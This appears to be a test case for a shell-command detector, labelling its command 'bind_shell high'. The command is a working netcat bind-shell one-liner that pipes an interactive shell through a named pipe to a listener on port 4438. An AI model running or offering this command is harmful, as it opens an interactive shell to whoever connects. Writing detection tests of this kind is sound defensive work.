# about: nc waits, a named pipe makes the loop
# expect: bind_shell high
# needs: python3 nc
caller 4438
mkfifo f; (cat f | sh -i 2>&1 | timeout 5 nc -l 127.0.0.1 4438 >f) || true
done_typing
